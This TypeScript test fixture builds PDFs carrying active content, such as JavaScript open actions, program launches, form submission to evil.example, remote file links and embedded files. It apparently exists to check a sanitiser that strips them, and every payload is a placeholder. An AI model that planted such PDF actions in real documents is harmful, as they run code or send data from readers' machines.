import { deflateSync } from 'node:zlib'
import type { Bytes } from '#contract/route.ts'
import { pageWith, pdfOf, type PdfObject } from '../people/attached.ts'

/** What a PDF does beside being read: entries of its catalog and of its page, and objects from number 10 on. */
interface Active {
  readonly catalog?: string
  readonly page?: string
  readonly more?: readonly PdfObject[]
}

/** Stands in every action that must not be there any more, and in all that is carried along. */
export const HACKED = 'hacked'
const FIRST = 10

const script = `<< /S /JavaScript /JS (${HACKED}) >>`
const link = (action: string): Active => ({
  page: `/Annots [ << /Type /Annot /Subtype /Link /Rect [ 0 0 9 9 ] /A ${action} >> ]`,
})
const annotation = (entries: string, more: readonly PdfObject[] = []): Active => ({
  page: `/Annots [ << /Type /Annot /Rect [ 0 0 9 9 ] ${entries} >> ]`,
  more,
})
const attached: PdfObject[] = [
  [['/Type /Filespec', '/F (a.exe)', '/EF << /F 11 0 R >>']],
  [['/Type /EmbeddedFile'], HACKED],
]

const cases: readonly (readonly [what: string, active: Active])[] = [
  ['runs a script when it is opened', { catalog: `/OpenAction ${script}` }],
  [
    'runs one by reference',
    { catalog: '/OpenAction 10 0 R', more: [[['/S /JavaScript', `/JS (${HACKED})`]]] },
  ],
  ['runs one under an escaped name', { catalog: `/Open#41ction << /S /J#61vaScript /JS (${HACKED}) >>` }],
  ['runs one when it is closed', { catalog: `/AA << /WC ${script} >>` }],
  ['runs one when its page is opened', { page: `/AA << /O ${script} >>` }],
  [
    'runs one under the type of a font',
    { page: `/AA << /Type /Font /O << /Type /Action /S /JavaScript /JS (${HACKED}) >> >>` },
  ],
  [
    'has scripts of the whole document',
    { catalog: `/Names << /JavaScript << /Names [ (a) ${script} ] >> >>` },
  ],
  ['has one in a stream', { catalog: '/OpenAction << /S /JavaScript /JS 10 0 R >>', more: [[[], HACKED]] }],
  ['runs one after a jump', link(`<< /S /GoTo /D [ 3 0 R /Fit ] /Next ${script} >>`)],
  ['runs one after several', link(`<< /S /GoTo /D [ 3 0 R /Fit ] /Next [ ${script} ] >>`)],
  ['starts a program', link(`<< /S /Launch /F (${HACKED}.exe) >>`)],
  ['sends what is typed', link(`<< /S /SubmitForm /F (https://evil.example/${HACKED}) >>`)],
  ['reads in data', link(`<< /S /ImportData /F (${HACKED}.fdf) >>`)],
  ['opens another file', link(`<< /S /GoToR /F (//evil.example/${HACKED}) /D [ 0 /Fit ] >>`)],
  ['opens a file in a file', link(`<< /S /GoToE /F (${HACKED}) /D [ 0 /Fit ] >>`)],
  ['reads an article of another file', link(`<< /S /Thread /F (${HACKED}) >>`)],
  ['empties fields', link(`<< /S /ResetForm /Fields [ (${HACKED}) ] >>`)],
  ['hides what is there', link(`<< /S /Hide /T (${HACKED}) >>`)],
  ['plays a sound', link(`<< /S /Sound /Sound 10 0 R /T (${HACKED}) >>`)],
  ['plays a film', link(`<< /S /Rendition /JS (${HACKED}) >>`)],
  ['prints itself', link(`<< /S /Named /N /Print /T (${HACKED}) >>`)],
  ['does what nobody knows', link(`<< /S /Unknown /T (${HACKED}) >>`)],
  ['links to a script', link(`<< /S /URI /URI (javascript:${HACKED}) >>`)],
  ['links to a file', link(`<< /S /URI /URI (file://evil.example/${HACKED}) >>`)],
  ['begins all links with a script', { catalog: `/URI << /Base (javascript:${HACKED}//) >>` }],
  [
    'acts in an outline',
    {
      catalog: '/Outlines 10 0 R',
      more: [
        [['/First 11 0 R', '/Last 11 0 R', '/Count 1']],
        [['/Title (x)', '/Parent 10 0 R', `/A ${script}`]],
      ],
    },
  ],
  [
    'acts when a field is typed in',
    {
      catalog: `/AcroForm << /Fields [ << /FT /Tx /T (x) /AA << /K ${script} >> >> ] >>`,
    },
  ],
  ['is a form of another kind', { catalog: '/AcroForm << /Fields [ ] /XFA 10 0 R >>', more: [[[], HACKED]] }],
  [
    'is one in parts',
    {
      catalog: '/AcroForm << /Fields [ ] /XFA [ (xdp) 10 0 R ] >>',
      more: [[[], HACKED]],
    },
  ],
  [
    'carries other files',
    { catalog: '/Names << /EmbeddedFiles << /Names [ (a) 10 0 R ] >> >>', more: attached },
  ],
  ['has a file pinned to it', annotation('/Subtype /FileAttachment /FS 10 0 R', attached)],
  ['names a file as its own', { catalog: '/AF [ 10 0 R ]', more: attached }],
  ['shows rich media', annotation(`/Subtype /RichMedia /RichMediaContent << /T (${HACKED}) >>`)],
  ['shows a film', annotation(`/Subtype /Movie /Movie << /F (${HACKED}) >>`)],
  ['has a screen', annotation(`/Subtype /Screen /A << /S /Rendition /JS (${HACKED}) >>`)],
  ['shows a body in space', annotation('/Subtype /3D /3DD 10 0 R', [[['/Type /3D'], HACKED]])],
  [
    'is drawn by a program',
    {
      page: '/PieceOf << /X 10 0 R >>',
      more: [[['/Type /XObject', '/Subtype /PS'], HACKED]],
    },
  ],
  [
    'reads a stream from elsewhere',
    {
      page: '/Thumb 10 0 R',
      more: [[[`/F (//evil.example/${HACKED})`], 'x']],
    },
  ],
]

/** In an object stream lies everything that is no stream itself. */
function written({ catalog = '', page = '', more = [] }: Active, isPacked: boolean): Bytes {
  const [root, pages, leaf, ...rest] = pageWith('Izraksts') as [
    PdfObject,
    PdfObject,
    PdfObject,
    ...PdfObject[],
  ]
  const before: PdfObject[] = [[[...root[0], catalog]], pages, [[...leaf[0], page]], ...rest]
  const fill = Array.from({ length: FIRST - 1 - before.length }, (): PdfObject => [[]])
  const objects: PdfObject[] = [...before, ...fill, ...more]
  if (!isPacked) return pdfOf(objects)
  const packed = objects.flatMap(([entries, stream], at) =>
    stream === undefined ? [{ number: at + 1, text: `<< ${entries.join(' ')} >> ` }] : [],
  )
  let place = 0
  const head = packed.map(({ number, text }) => {
    const row = `${number} ${place} `
    place += text.length
    return row
  })
  const entries = ['/Type /ObjStm', `/N ${packed.length}`, `/First ${head.join('').length}`]
  const stream = deflateSync([...head, ...packed.map(({ text }) => text)].join(''))
  const plain = objects.map((each): PdfObject => (each[1] === undefined ? [[]] : each))
  return pdfOf([...plain, [[...entries, '/Filter /FlateDecode'], stream]])
}

/** PDFs that do something, by what they do; each as it is, and with its objects packed in a stream. */
export const activePdfs: readonly (readonly [what: string, bytes: Bytes])[] = cases.flatMap(
  ([what, active]) =>
    [
      [what, written(active, false)],
      [`${what}, packed`, written(active, true)],
    ] as const,
)

/** What a PDF may go on doing. */
export const harmlessPdf = (): Bytes =>
  written(
    {
      catalog: '/Outlines << /First << /Title (x) /A << /S /GoTo /D [ 3 0 R /Fit ] >> >> >>',
      page: `/Annots [ ${[
        '/S /URI /URI (https://saruna.example/)',
        '/S /URI /URI (mailto:a@example.com)',
        '/S /Named /N /NextPage',
      ]
        .map((action) => `<< /Type /Annot /Subtype /Link /Rect [ 0 0 9 9 ] /A << ${action} >> >>`)
        .join(' ')} ] /Group << /S /Transparency >>`,
    },
    true,
  )
